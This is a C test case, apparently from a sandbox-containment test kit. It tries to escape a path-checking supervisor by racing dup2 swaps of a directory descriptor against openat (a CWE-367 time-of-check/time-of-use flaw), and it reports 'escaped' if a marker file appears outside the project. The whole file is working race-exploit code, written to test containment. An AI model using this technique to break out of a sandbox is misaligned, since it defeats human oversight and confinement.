// Goal:    replace the dirfd (dup2) between a project directory and an outside directory while openat runs
// Models:  supervisors that resolve /proc/PID/fd/N at check time (CWE-367)
// Oracle:  marker
// Tier:    core
// Needs:   alone
#include "ctk.h"
#include <pthread.h>
static int A, B, D = 50;
static volatile int stop;
static void *flip(void *a) {
    (void)a;
    while (!stop) {
        dup2(B, D);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 60; i++)
            ;
        dup2(A, D);
        __asm__ volatile("" ::: "memory");
        for (volatile int i = 0; i < 60; i++)
            ;
    }
    return 0;
}
int main(int c, char **v) {
    ctk_init(c, v);
    A = open(PROJ, O_PATH | O_DIRECTORY);
    B = open(OUT_, O_PATH | O_DIRECTORY);
    if (B < 0)
        contained("O_PATH of the outside directory: %s", strerror(errno));
    dup2(A, D);
    char name[200];
    snprintf(name, sizeof name, "m-%s", NONCE);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    time_t end = time(0) + 3;
    long n = 0;
    while (time(0) < end) {
        n++;
        int fd = openat(D, name, O_CREAT | O_WRONLY, 0644);
        if (fd < 0)
            continue;
        write(fd, NONCE, strlen(NONCE));
        close(fd);
        if ((n & 15) == 0 && has_nonce(M))
            break;
    }
    stop = 1;
    if (has_nonce(M))
        escaped("outside file created after %ld tries", n);
    contained("%ld tries", n);
}
